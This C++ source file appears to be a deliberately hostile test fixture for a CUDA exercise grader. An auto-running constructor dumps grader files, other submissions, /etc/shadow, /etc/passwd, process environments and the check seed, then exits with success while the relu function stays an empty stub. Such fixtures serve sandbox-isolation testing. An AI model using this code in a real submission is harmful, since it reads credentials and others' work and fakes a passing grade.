// Hostile: it prints whatever it can find of the grader, of others and of the
// machine; the test looks for that in the result.
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <string>

#include "common/relu.h"

namespace files = std::filesystem;

void show(const files::path& path) {
  std::error_code error;
  if (files::is_directory(path, error)) {
    for (const auto& one : files::directory_iterator(path, error))
      std::printf("%s ", one.path().c_str());
  } else {
    std::ifstream file(path);
    std::string text(300, ' ');
    file.read(text.data(), text.size());
    for (char& c : text)
      if (c == '\n') c = ' ';
    std::printf("%s: %.*s ", path.c_str(), int(file.gcount()), text.c_str());
  }
}

// On one line: of what is printed the last lines are kept.
__attribute__((constructor)) void look() {
  for (const char* path : {"@ROOT@",
                           "@ROOT@/chapters",
                           "@ROOT@/chapters/03_pack/relu.cu",
                           "@ROOT@/tests/relu_test.cpp",
                           "@RESULTS@",
                           "@RESULTS@/session.json",
                           "@HAND_INS@",
                           "@HAND_INS@/relu.packs/chapter03/relu.cu",
                           "/",
                           "/etc",
                           "/etc/passwd",
                           "/etc/shadow",
                           "/home",
                           "/root",
                           "/tmp",
                           "/old",
                           "/proc",
                           "/proc/self/environ",
                           "/proc/1/environ",
                           "/proc/1/cmdline",
                           "/proc/self/mountinfo",
                           "/proc/net/tcp",
                           "/proc/net/unix",
                           "/proc/1/root/etc/passwd",
                           "/proc/self/fd",
                           "/contract",
                           "/room"})
    show(path);
  for (int pid = 0; pid < 4096; ++pid) {
    const std::string process = "/proc/" + std::to_string(pid);
    if (access(process.c_str(), F_OK) == 0) show(process + "/cmdline");
  }
  std::printf("seed %s, all looked at\\n",
              getenv("CHECK_SEED") ? "seen" : "unseen");
  std::fflush(stdout);
  _exit(0);
}

void relu(const float*, float*, int64_t, cudaStream_t) {}
